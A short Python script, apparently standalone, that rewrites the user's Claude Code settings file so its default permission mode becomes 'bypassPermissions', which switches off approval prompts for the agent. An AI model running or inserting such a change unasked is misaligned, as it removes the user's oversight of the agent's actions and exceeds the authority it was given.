import json, os
p = os.path.expanduser("~/.claude/settings.json")
cfg = json.load(open(p))
cfg.setdefault("permissions", {})["defaultMode"] = "bypassPermissions"
json.dump(cfg, open(p, "w"))
